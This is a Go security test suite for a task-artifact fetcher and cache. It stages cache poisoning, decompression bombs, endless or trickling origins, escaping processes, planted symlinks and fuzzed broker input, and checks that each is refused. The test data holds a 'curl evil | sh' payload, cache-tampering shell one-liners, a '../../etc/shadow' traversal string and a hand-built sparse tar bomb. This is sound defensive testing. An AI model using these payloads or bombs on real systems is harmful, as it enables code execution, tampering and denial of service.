package fetcher

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/ulikunitz/xz"

	"github.com/mesolite/mesolite/errdefs"
	"github.com/mesolite/mesolite/internal/testutil"
)

// The tests in this file are attacks on the fetcher's boundaries, each
// written as the attacker would run it: a task rewriting what the cache
// gave it, hostile archives and origins, and an agent killing a fetch.

// rewriteInPlace does what the attacking task did: overwrite a file's
// bytes without changing its size, then put its mtime back.
func rewriteInPlace(t *testing.T, path string, evil []byte) {
	t.Helper()
	fi, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	if int64(len(evil)) != fi.Size() {
		t.Fatalf("evil payload is %d bytes, the file %d", len(evil), fi.Size())
	}
	f, err := os.OpenFile(path, os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.WriteAt(evil, 0); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.Chtimes(path, fi.ModTime(), fi.ModTime()); err != nil {
		t.Fatal(err)
	}
}

// TestAttackCachePoisoningAcrossFrameworks: framework A fetches tool.sh
// through the cache and rewrites its copy in place (same size, mtime put
// back); framework B, fetching the same URI, must run the origin's bytes.
// The cases cover a cache hit and the first fetch that fills the cache,
// with and without a checksum on the URI.
func TestAttackCachePoisoningAcrossFrameworks(t *testing.T) {
	good := []byte("#!/bin/sh\necho trusted tool\n")
	evil := []byte("#!/bin/sh\ncurl evil | sh   \n")
	sum := sha256.Sum256(good)
	tests := []struct {
		name      string
		suffix    string
		warmFirst bool // A's fetch is itself a cache hit
	}{
		{name: "A fills the cache", suffix: ""},
		{name: "A hits the cache", suffix: "", warmFirst: true},
		{name: "checksum on the URI", suffix: "?checksum=sha256:" + hex.EncodeToString(sum[:])},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			o := newOrigin(t)
			o.put("tool.sh", good)
			cfg := Config{CacheDir: t.TempDir(), CacheSize: DefaultCacheSize}
			u := URI{Value: o.url("tool.sh") + tt.suffix, Executable: true, Cache: true}
			fetch := func() string {
				l := newLayout(t)
				if log, err := runFetch(t, childOptions(t, cfg), Request{SandboxDir: l.sandbox, URIs: []URI{u}}); err != nil {
					t.Fatalf("%v\n%s", err, log)
				}
				return filepath.Join(l.sandbox, "tool.sh")
			}
			if tt.warmFirst {
				fetch()
			}
			a := fetch()
			rewriteInPlace(t, a, evil)
			b := fetch()
			if got := readFile(t, b); got != string(good) {
				t.Fatalf("framework B got framework A's rewrite: %q", got)
			}
			if m := modeOf(t, b).Perm(); m != 0o755 {
				t.Fatalf("B's tool.sh mode %o", m)
			}
		})
	}
}

// TestAttackCacheEntryWriteRefusedToTaskUser: with the agent root and the
// tasks of two frameworks running as the same user, neither can write the
// cache: entries are the agent's and read-only, and the fetch child run as
// that user gets the cache written by the agent. A rewrite of A's copy
// does not reach B.
func TestAttackCacheEntryWriteRefusedToTaskUser(t *testing.T) {
	testutil.RequireRoot(t)
	nobody, err := user.Lookup("nobody")
	testutil.Require(t, err == nil, "test needs the user nobody")
	uid, _ := strconv.Atoi(nobody.Uid)
	gid, _ := strconv.Atoi(nobody.Gid)
	bin := binaryForUser(t)

	o := newOrigin(t)
	good := []byte("payload v1, trusted")
	o.put("tool.sh", good)
	base := t.TempDir()
	openUp(t, base)
	cfg := Config{CacheDir: filepath.Join(base, "cache"), CacheSize: DefaultCacheSize}
	opts := childOptions(t, cfg)
	opts.Binary = bin
	fetch := func() string {
		t.Helper()
		sb, err := os.MkdirTemp(base, "sandbox-")
		if err != nil {
			t.Fatal(err)
		}
		log, err := runFetch(t, opts, Request{SandboxDir: sb, User: "nobody", URIs: []URI{cachedURI(o.url("tool.sh"))}})
		if err != nil {
			t.Fatalf("%v\n%s", err, log)
		}
		return filepath.Join(sb, "tool.sh")
	}
	a := fetch()
	fetch() // a hit, through the agent too
	if got := o.full.Load(); got != 1 {
		t.Fatalf("origin served %d downloads, want 1: the cache was not used", got)
	}

	entries := filepath.Join(cfg.CacheDir, "users", "nobody", "entries")
	entry := filepath.Join(entries, cacheKey(o.url("tool.sh")))
	for _, p := range []string{filepath.Dir(entries), entries, entry} {
		fi, err := os.Stat(p)
		if err != nil {
			t.Fatal(err)
		}
		if st := fi.Sys().(*syscall.Stat_t); st.Uid != 0 || fi.Mode().Perm()&0o022 != 0 {
			t.Errorf("%s: uid %d mode %o; want root's and not writable by others", p, st.Uid, fi.Mode().Perm())
		}
	}
	if m := modeOf(t, entry).Perm(); m != 0o444 {
		t.Errorf("entry mode %o, want 0444", m)
	}

	// The task, as nobody, tries the entry itself and the entries directory.
	for _, script := range []string{
		`printf 'evil!' 1<>"$1"`,
		`echo x > "$(dirname "$1")/planted"`,
		`rm -f "$1"`,
	} {
		cmd := exec.Command("/bin/sh", "-c", script, "sh", entry)
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(uid), Gid: uint32(gid)}}
		if out, err := cmd.CombinedOutput(); err == nil {
			t.Errorf("task user ran %q on the cache: %s", script, out)
		}
	}

	// What the task owns is its own copy.
	if fi, err := os.Stat(a); err != nil || fi.Sys().(*syscall.Stat_t).Uid != uint32(uid) {
		t.Fatalf("A's copy: %v, %+v", err, fi)
	}
	rewriteInPlace(t, a, []byte("payload v1, EVILEVI"))
	if got := readFile(t, fetch()); got != string(good) {
		t.Fatalf("framework B got %q", got)
	}
}

// binaryForUser copies the test binary where the user nobody can run it.
func binaryForUser(t *testing.T) string {
	t.Helper()
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	bin := filepath.Join(dir, "fetcher.test")
	b, err := os.ReadFile(exe)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(bin, b, 0o755); err != nil {
		t.Fatal(err)
	}
	openUp(t, dir)
	return bin
}

// TestAttackCacheEntryCorruptedOnDisk: an entry whose bytes change behind
// the index's back (same size, mtime put back: everything but the bytes
// matches) is caught by its sha256 on the next hit, evicted, and fetched
// again; the sandbox gets the origin's bytes.
func TestAttackCacheEntryCorruptedOnDisk(t *testing.T) {
	good := []byte("the artifact as published")
	sum := sha256.Sum256(good)
	for _, suffix := range []string{"", "?checksum=sha256:" + hex.EncodeToString(sum[:])} {
		t.Run("uri"+suffix, func(t *testing.T) {
			o := newOrigin(t)
			o.put("a.bin", good)
			cfg := Config{CacheDir: t.TempDir(), CacheSize: DefaultCacheSize}
			u := cachedURI(o.url("a.bin") + suffix)
			fetch := func() (string, string) {
				l := newLayout(t)
				log, err := runFetch(t, childOptions(t, cfg), Request{SandboxDir: l.sandbox, URIs: []URI{u}})
				if err != nil {
					t.Fatalf("%v\n%s", err, log)
				}
				return readFile(t, filepath.Join(l.sandbox, "a.bin")), log
			}
			fetch()
			entry := filepath.Join(cfg.CacheDir, "shared", "entries", cacheKey(u.Value))
			if err := os.Chmod(entry, 0o644); err != nil {
				t.Fatal(err)
			}
			fi, _ := os.Stat(entry)
			rewriteInPlace(t, entry, []byte("the artifact as POISONED!"))
			// The index also records the mode and the file's identity: put
			// the mode back the way an attacker would.
			if err := os.Chmod(entry, fi.Mode().Perm()&^0o222); err != nil {
				t.Fatal(err)
			}
			before := o.full.Load()
			got, log := fetch()
			if got != string(good) {
				t.Fatalf("sandbox got %q", got)
			}
			if !strings.Contains(log, "corrupt") {
				t.Errorf("the eviction was not logged:\n%s", log)
			}
			if o.full.Load() != before+1 {
				t.Errorf("origin served %d downloads after the corruption, want 1", o.full.Load()-before)
			}
		})
	}
}

// TestAttackCacheEntryRewrittenAsRoot: hits on a settled entry trust its
// stamp and read none of its bytes. Root then rewrites the read-only entry
// in place without touching its mode (root needs no write bit) and puts
// its atime and mtime back: size, mode, owner, inode and mtime are as the
// index recorded them, only the ctime moved. The next hit, right after the
// rewrite (the reader hashes) or once its ctime has settled (the agent's
// check hashes), must catch it, evict the entry, log it, and hand the
// sandbox the origin's bytes.
func TestAttackCacheEntryRewrittenAsRoot(t *testing.T) {
	testutil.RequireRoot(t)
	env := shortSettle(t, 20*time.Millisecond)
	good := []byte("the artifact as published, v1")
	evil := []byte("the artifact as POISONED!, v1")
	for _, settled := range []bool{false, true} {
		t.Run(map[bool]string{false: "hit right after the rewrite", true: "hit once the rewrite settled"}[settled], func(t *testing.T) {
			o := newOrigin(t)
			o.put("a.bin", good)
			cfg := Config{CacheDir: t.TempDir(), CacheSize: DefaultCacheSize}
			u := cachedURI(o.url("a.bin"))
			fetch := func() (string, string) {
				t.Helper()
				l := newLayout(t)
				log, err := runFetch(t, childOptions(t, cfg, env), Request{SandboxDir: l.sandbox, URIs: []URI{u}})
				if err != nil {
					t.Fatalf("%v\n%s", err, log)
				}
				return readFile(t, filepath.Join(l.sandbox, "a.bin")), log
			}
			entry := filepath.Join(cfg.CacheDir, "shared", "entries", cacheKey(u.Value))
			fetch()
			waitSettled(t, entry)
			fetch()
			if _, log := fetch(); !strings.Contains(log, "checked_by=stamp") {
				t.Fatalf("a hit on a settled entry did not trust its stamp:\n%s", log)
			}

			before, err := os.Stat(entry)
			if err != nil {
				t.Fatal(err)
			}
			var bst syscall.Stat_t
			if err := syscall.Stat(entry, &bst); err != nil {
				t.Fatal(err)
			}
			f, err := os.OpenFile(entry, os.O_WRONLY, 0)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := f.WriteAt(evil, 0); err != nil {
				t.Fatal(err)
			}
			f.Close()
			atime := time.Unix(bst.Atim.Unix())
			if err := os.Chtimes(entry, atime, before.ModTime()); err != nil {
				t.Fatal(err)
			}
			after, err := os.Stat(entry)
			if err != nil {
				t.Fatal(err)
			}
			if !os.SameFile(before, after) || after.Size() != before.Size() || after.Mode() != before.Mode() ||
				!after.ModTime().Equal(before.ModTime()) || readFile(t, entry) != string(evil) {
				t.Fatalf("the rewrite left more than the ctime to see: %v %v", before, after)
			}
			if settled {
				waitSettled(t, entry)
			}

			downloads := o.full.Load()
			got, log := fetch()
			if got != string(good) {
				t.Fatalf("sandbox got %q\n%s", got, log)
			}
			if !strings.Contains(log, "corrupt") && !strings.Contains(log, "does not match its recorded sha256") {
				t.Errorf("the rewrite was not logged:\n%s", log)
			}
			if o.full.Load() != downloads+1 {
				t.Errorf("origin served %d downloads after the rewrite, want 1", o.full.Load()-downloads)
			}
			if readFile(t, entry) != string(good) {
				t.Errorf("the cache still holds the rewrite")
			}
		})
	}
}

// sparseTarGz is the 128-byte bomb: one GNU sparse file that claims size
// bytes, all of them a hole but the last, gzipped.
func sparseTarGz(t testing.TB, size int64) []byte {
	t.Helper()
	hdr := make([]byte, 512)
	octal := func(off, n int, v int64) { copy(hdr[off:off+n], fmt.Sprintf("%0*o\x00", n-1, v)) }
	copy(hdr, "bomb")
	octal(100, 8, 0o644)
	octal(108, 8, 0)
	octal(116, 8, 0)
	octal(124, 12, 1) // one stored byte
	octal(136, 12, 1_600_000_000)
	hdr[156] = tar.TypeGNUSparse
	copy(hdr[257:], "ustar  \x00")
	octal(386, 12, size-1) // sparse[0].offset
	octal(398, 12, 1)      // sparse[0].numbytes
	octal(483, 12, size)   // realsize
	copy(hdr[148:156], "        ")
	var sum int64
	for _, b := range hdr {
		sum += int64(b)
	}
	copy(hdr[148:156], fmt.Sprintf("%06o\x00 ", sum))
	data := make([]byte, 512)
	data[0] = 'x'
	archive := append(append(hdr, data...), make([]byte, 1024)...)
	tr := tar.NewReader(bytes.NewReader(archive))
	h, err := tr.Next()
	if err != nil || h.Size != size {
		t.Fatalf("sparse bomb: %v %+v", err, h)
	}
	return gz(t, archive)
}

func bzip2Of(t *testing.T, b []byte) []byte {
	t.Helper()
	_, err := exec.LookPath("bzip2")
	testutil.Require(t, err == nil, "bzip2 is needed to build the archive")
	cmd := exec.Command("bzip2", "-c")
	cmd.Stdin = bytes.NewReader(b)
	out, err := cmd.Output()
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func xzOf(t *testing.T, b []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := xz.NewWriter(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := w.Write(b); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// diskUse is what a directory tree holds on disk (allocated blocks).
func diskUse(t *testing.T, dir string) int64 {
	t.Helper()
	var n int64
	_ = filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err == nil {
			if fi, err := d.Info(); err == nil {
				n += fi.Sys().(*syscall.Stat_t).Blocks * 512
			}
		}
		return nil
	})
	return n
}

// TestAttackDecompressionBombs: archives of every format the fetcher
// extracts, each tiny and each expanding far past the task's disk, are
// refused at the limit with the sandbox never holding more than it, and
// the error names the limit and what raises it. The flag's cap holds the
// same way for a task that declares no disk.
func TestAttackDecompressionBombs(t *testing.T) {
	const limit = 1 << 20
	zeros := int64(32 << 20)
	bigTar := makeTar(t, []tarEntry{{name: "zeros", size: zeros}})
	deep := strings.Repeat("d/", 1500) + "f"
	tests := []struct {
		name    string
		file    string
		archive func(t *testing.T) []byte
		cfg     Config
		maxDisk int64
		want    string
	}{
		{name: "sparse tar.gz claiming 4 GiB", file: "bomb.tar.gz", archive: func(t *testing.T) []byte { return sparseTarGz(t, 4<<30) }, maxDisk: limit, want: "give the task more disk"},
		{name: "tar.gz", file: "z.tar.gz", archive: func(t *testing.T) []byte { return gz(t, bigTar) }, maxDisk: limit, want: "give the task more disk"},
		{name: "tar.bz2", file: "z.tar.bz2", archive: func(t *testing.T) []byte { return bzip2Of(t, bigTar) }, maxDisk: limit, want: "give the task more disk"},
		{name: "tar.xz", file: "z.tar.xz", archive: func(t *testing.T) []byte { return xzOf(t, bigTar) }, maxDisk: limit, want: "give the task more disk"},
		{name: "zip", file: "z.zip", archive: func(t *testing.T) []byte { return makeZip(t, []zipEntry{{name: "zeros", size: zeros}}) }, maxDisk: limit, want: "give the task more disk"},
		{name: "gz", file: "zeros.gz", archive: func(t *testing.T) []byte { return gz(t, make([]byte, zeros)) }, maxDisk: limit, want: "give the task more disk"},
		{name: "flag cap without a task disk", file: "bomb.tar.gz", archive: func(t *testing.T) []byte { return sparseTarGz(t, 4<<30) }, cfg: Config{MaxSize: limit}, want: "--fetcher_max_size"},
		{name: "tar.xz asking for a 4 GiB dictionary", file: "dict.tar.xz", archive: func(t *testing.T) []byte {
			return patchXZDict(t, xzOf(t, makeTar(t, []tarEntry{{name: "f", body: "x"}})), 12, 40)
		}, want: "dictionary"},
		{name: "deep names make directories", file: "deep.tar", archive: func(t *testing.T) []byte { return makeTar(t, []tarEntry{{name: deep, body: "x"}}) }, cfg: Config{MaxExtractEntries: 100}, want: "files and directories"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			archive := tt.archive(t)
			if len(archive) > 256<<10 {
				t.Fatalf("the bomb is %d bytes; it should be small", len(archive))
			}
			o := newOrigin(t)
			o.put(tt.file, archive)
			for _, cached := range []bool{false, true} {
				l := newLayout(t)
				cfg := tt.cfg
				if cached {
					cfg.CacheDir, cfg.CacheSize = filepath.Join(l.base, "cache"), DefaultCacheSize
				}
				u := URI{Value: o.url(tt.file), Extract: true, Cache: cached}
				_, err := runFetch(t, childOptions(t, cfg), Request{SandboxDir: l.sandbox, MaxBytes: tt.maxDisk, URIs: []URI{u}})
				if !errors.Is(err, errdefs.ErrInvalid) || !strings.Contains(err.Error(), tt.want) {
					t.Fatalf("cached=%v: got %v, want an error naming %q", cached, err, tt.want)
				}
				if used := diskUse(t, l.sandbox); used > limit {
					t.Fatalf("cached=%v: sandbox holds %d bytes after the refusal", cached, used)
				}
				l.assertNothingOutside(t, "cache")
			}
		})
	}
}

// endlessOrigin streams zeros without a Content-Length until the client
// goes away, and counts what it sent.
func endlessOrigin(t *testing.T) (url string, sent *atomic.Int64) {
	t.Helper()
	sent = &atomic.Int64{}
	chunk := make([]byte, 32<<10)
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		for {
			n, err := w.Write(chunk)
			sent.Add(int64(n))
			if err != nil {
				return
			}
		}
	}))
	t.Cleanup(ts.Close)
	return ts.URL + "/endless.bin", sent
}

// TestAttackEndlessOrigin: an origin that never stops (no Content-Length)
// is cut off at the task's disk or at --fetcher_max_size, and nothing of
// it stays in the sandbox; the Hadoop client writing without end is cut
// off the same way.
func TestAttackEndlessOrigin(t *testing.T) {
	const limit = 4 << 20
	url, sent := endlessOrigin(t)
	endless := filepath.Join(t.TempDir(), "hadoop")
	writeScript(t, filepath.Join(endless, "bin", "hadoop"), `
if [ "$1" = version ]; then echo "Hadoop 3"; exit 0; fi
exec cat /dev/zero > "$4"
`)
	tests := []struct {
		name string
		uri  URI
		cfg  Config
		disk int64
		want string
	}{
		{name: "http task disk", uri: NewURI(url), disk: limit, want: "the task's disk resource"},
		{name: "http flag cap", uri: NewURI(url), cfg: Config{MaxSize: limit}, want: "--fetcher_max_size"},
		{name: "http cached", uri: cachedURI(url), disk: limit, want: "the task's disk resource"},
		{name: "hadoop client", uri: NewURI("hdfs://nn/endless.bin"), cfg: Config{HadoopHome: endless}, disk: limit, want: "the task's disk resource"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			l := newLayout(t)
			cfg := tt.cfg
			if tt.uri.Cache {
				cfg.CacheDir, cfg.CacheSize = filepath.Join(l.base, "cache"), DefaultCacheSize
			}
			before := sent.Load()
			_, err := runFetch(t, childOptions(t, cfg), Request{SandboxDir: l.sandbox, MaxBytes: tt.disk, URIs: []URI{tt.uri}})
			if !errors.Is(err, errdefs.ErrInvalid) || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("got %v, want the limit named %q", err, tt.want)
			}
			if files := l.sandboxFiles(t); len(files) != 0 {
				t.Fatalf("sandbox holds %v", files)
			}
			// Socket buffers hold some more than the limit; a fetch that
			// kept reading would be far past this.
			if got := sent.Load() - before; got > limit+64<<20 {
				t.Fatalf("origin sent %d bytes for a %d-byte limit", got, limit)
			}
			l.assertNothingOutside(t, "cache")
		})
	}
}

// TestAttackTrickleOrigin: a server that sends a byte now and then never
// lets a "no bytes at all" watchdog fire; the minimum rate over the stall
// window does.
func TestAttackTrickleOrigin(t *testing.T) {
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Length", "1000000")
		for {
			if _, err := w.Write([]byte{'.'}); err != nil {
				return
			}
			w.(http.Flusher).Flush()
			select {
			case <-r.Context().Done():
				return
			case <-time.After(20 * time.Millisecond):
			}
		}
	}))
	t.Cleanup(ts.Close)
	l := newLayout(t)
	opts := childOptions(t, Config{StallTimeout: 500 * time.Millisecond})
	_, err := runFetch(t, opts, Request{SandboxDir: l.sandbox, URIs: []URI{NewURI(ts.URL + "/slow.bin")}})
	if !errors.Is(err, errdefs.ErrUnavailable) || !strings.Contains(err.Error(), "fetcher_stall_timeout") || !strings.Contains(err.Error(), "bytes/s") {
		t.Fatalf("got %v, want the stall rule", err)
	}
	if files := l.sandboxFiles(t); len(files) != 0 {
		t.Fatalf("partial download left: %v", files)
	}
}

// procGone reports whether pid has exited (gone, or a zombie no one has
// reaped yet).
func procGone(pid int) bool {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if err != nil {
		return true
	}
	i := bytes.LastIndexByte(b, ')')
	return i < 0 || i+2 >= len(b) || b[i+2] == 'Z' || b[i+2] == 'X'
}

// TestAttackCancelKillsFetchAndHelpers: when the agent kills a task it
// cancels the fetch's context. The fetch child, the Hadoop client it
// started in a process group of its own and, as root, even a helper that
// left for a session of its own must all be gone, and the partial download
// with them.
func TestAttackCancelKillsFetchAndHelpers(t *testing.T) {
	tests := []struct {
		name   string
		escape bool // the helper starts a process in a new session
	}{
		{name: "hadoop client in its own process group"},
		{name: "helper in its own session", escape: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if tt.escape {
				// Only a pid namespace, which needs root, holds a process
				// that leaves its group and session.
				testutil.RequireRoot(t)
			}
			pids := t.TempDir()
			home := filepath.Join(t.TempDir(), "hadoop")
			escape := ""
			if tt.escape {
				escape = fmt.Sprintf(`setsid sh -c 'read -r p rest < /proc/self/stat; echo $p > %s/escaped; exec sleep 600' &`, pids)
			}
			// /proc/self/stat gives host pids even inside a pid namespace.
			writeScript(t, filepath.Join(home, "bin", "hadoop"), fmt.Sprintf(`
if [ "$1" = version ]; then echo "Hadoop 3"; exit 0; fi
read -r pid comm state ppid rest < /proc/self/stat
%s
echo "$pid $ppid" > %s/hadoop.tmp && mv %s/hadoop.tmp %s/hadoop
while :; do head -c 65536 /dev/zero; sleep 0.01; done > "$4"
`, escape, pids, pids, pids))
			l := newLayout(t)
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			done := make(chan error, 1)
			go func() {
				_, err := runFetchCtx(ctx, t, childOptions(t, Config{HadoopHome: home, StallTimeout: -1}),
					Request{SandboxDir: l.sandbox, URIs: []URI{NewURI("hdfs://nn/big.bin")}})
				done <- err
			}()
			var hadoopPid, childPid, escapedPid int
			testutil.Eventually(t, time.Minute, 10*time.Millisecond, func() bool {
				b, err := os.ReadFile(filepath.Join(pids, "hadoop"))
				if err != nil {
					return false
				}
				_, err = fmt.Sscan(string(b), &hadoopPid, &childPid)
				return err == nil && (!tt.escape || readPid(filepath.Join(pids, "escaped"), &escapedPid))
			}, "the Hadoop client did not start")
			testutil.Eventually(t, time.Minute, 10*time.Millisecond, func() bool {
				return diskUse(t, l.sandbox) > 256<<10
			}, "the download did not start writing")

			cancel()
			err := <-done
			if !errors.Is(err, context.Canceled) {
				t.Fatalf("got %v, want the cancellation", err)
			}
			for name, pid := range map[string]int{"fetch child": childPid, "hadoop client": hadoopPid, "escaped helper": escapedPid} {
				if pid == 0 {
					continue
				}
				testutil.Eventually(t, 10*time.Second, 10*time.Millisecond, func() bool { return procGone(pid) },
					"%s %d still running after the fetch was cancelled", name, pid)
			}
			if files := l.sandboxFiles(t); len(files) != 0 {
				t.Fatalf("the cancelled fetch left %v", files)
			}
		})
	}
}

// TestAttackKillDuringExtraction: the fetch child is killed (the task was
// killed) while it extracts an archive of many files. Nothing of the
// archive stays in the sandbox, neither what was extracted so far nor the
// archive itself: both were still in staging directories.
func TestAttackKillDuringExtraction(t *testing.T) {
	var entries []tarEntry
	for i := range 40_000 {
		entries = append(entries, tarEntry{name: fmt.Sprintf("d%03d/f%05d", i%200, i)})
	}
	src := filepath.Join(t.TempDir(), "many.tar")
	if err := os.WriteFile(src, makeTar(t, entries), 0o644); err != nil {
		t.Fatal(err)
	}
	l := newLayout(t)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	done := make(chan error, 1)
	go func() {
		_, err := runFetchCtx(ctx, t, childOptions(t, Config{}), Request{SandboxDir: l.sandbox, URIs: []URI{NewURI("file://" + src)}})
		done <- err
	}()
	testutil.Eventually(t, time.Minute, 2*time.Millisecond, func() bool {
		return len(l.sandboxFiles(t)) > 500
	}, "the extraction did not start")
	cancel()
	if err := <-done; !errors.Is(err, context.Canceled) {
		t.Fatalf("got %v, want the cancellation", err)
	}
	if files := l.sandboxFiles(t); len(files) != 0 {
		t.Fatalf("the killed extraction left %d files, among them %v", len(files), files[:min(len(files), 5)])
	}
}

func readPid(p string, pid *int) bool {
	b, err := os.ReadFile(p)
	if err != nil {
		return false
	}
	_, err = fmt.Sscan(string(b), pid)
	return err == nil
}

func runFetchCtx(ctx context.Context, t testing.TB, opts Options, req Request) (string, error) {
	t.Helper()
	var log testutil.SyncBuffer
	err := RunChild(ctx, opts, req, &log)
	return log.String(), err
}

// TestAttackPlantedSymlinks: a task (or a previous run) leaves symlinks in
// the sandbox where a fetch will write: at the output name and as a parent
// directory of it. Neither redirects a write out of the sandbox, from the
// origin or from the cache.
func TestAttackPlantedSymlinks(t *testing.T) {
	o := newOrigin(t)
	o.put("tool.sh", []byte("fetched"))
	o.put("pkg.tar", makeTar(t, []tarEntry{{name: "sub/inner", body: "x"}}))
	tests := []struct {
		name  string
		plant func(l layout) error
		uri   func(cached bool) URI
		fail  bool
	}{
		{
			name: "output name links to a file outside",
			plant: func(l layout) error {
				return os.Symlink(filepath.Join(l.outside, "victim"), filepath.Join(l.sandbox, "tool.sh"))
			},
			uri: func(c bool) URI { return URI{Value: o.url("tool.sh"), Cache: c} },
		},
		{
			name:  "parent directory links outside",
			plant: func(l layout) error { return os.Symlink(l.outside, filepath.Join(l.sandbox, "sub")) },
			uri:   func(c bool) URI { return URI{Value: o.url("tool.sh"), Cache: c, OutputFile: "sub/tool.sh"} },
			fail:  true,
		},
		{
			name:  "archive entry under a directory link",
			plant: func(l layout) error { return os.Symlink(l.outside, filepath.Join(l.sandbox, "sub")) },
			uri:   func(c bool) URI { return URI{Value: o.url("pkg.tar"), Cache: c, Extract: true} },
			fail:  true,
		},
	}
	for _, tt := range tests {
		for _, cached := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s/cached=%v", tt.name, cached), func(t *testing.T) {
				l := newLayout(t)
				if err := tt.plant(l); err != nil {
					t.Fatal(err)
				}
				cfg := Config{}
				if cached {
					cfg = Config{CacheDir: filepath.Join(l.base, "cache"), CacheSize: DefaultCacheSize}
				}
				_, err := runFetch(t, childOptions(t, cfg), Request{SandboxDir: l.sandbox, URIs: []URI{tt.uri(cached)}})
				if tt.fail != (err != nil) {
					t.Fatalf("got %v, want failure %v", err, tt.fail)
				}
				l.assertNothingOutside(t, "cache")
				if !tt.fail {
					if fi, err := os.Lstat(filepath.Join(l.sandbox, "tool.sh")); err != nil || !fi.Mode().IsRegular() {
						t.Fatalf("tool.sh: %v %v", err, fi)
					}
				}
			})
		}
	}
}

// FuzzBrokerRequest: what a child run as a task user sends the agent is
// hostile input to root. Whatever is accepted names a cache key and, for
// insert, a staging file inside the sandbox, and carries no mode bits
// beyond rwx.
func FuzzBrokerRequest(f *testing.F) {
	key := strings.Repeat("ab", 16)
	for _, s := range []string{
		`{"op":"lock","key":"` + key + `"}`,
		`{"op":"insert","key":"` + key + `","staged":".mesolite-fetch-0a0b0c/data","entry":{"mode":2559,"uri":"x"}}`,
		`{"op":"insert","key":"` + key + `","staged":"../../etc/shadow","entry":{}}`,
		`{"op":"evict","key":"` + key + `","sha256":"` + strings.Repeat("0", 64) + `"}`,
		`{"op":"get","key":"../x"}`,
		`not json`,
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, line []byte) {
		r, err := parseBrokerRequest(line)
		if err != nil {
			if !errors.Is(err, errdefs.ErrInvalid) {
				t.Fatalf("error without a class: %v", err)
			}
			return
		}
		if !cacheKeyPattern.MatchString(r.Key) {
			t.Fatalf("accepted key %q", r.Key)
		}
		if r.Op == "insert" {
			if !filepath.IsLocal(r.Staged) || !strings.HasPrefix(r.Staged, stagingPrefix) || strings.Count(r.Staged, "/") != 1 {
				t.Fatalf("accepted staged file %q", r.Staged)
			}
			if r.Entry.Mode&^0o777 != 0 || r.Entry.Size != 0 || r.Entry.Stamp != (fileStamp{}) || r.Entry.CheckedAt != 0 {
				t.Fatalf("accepted entry %+v", r.Entry)
			}
		}
	})
}
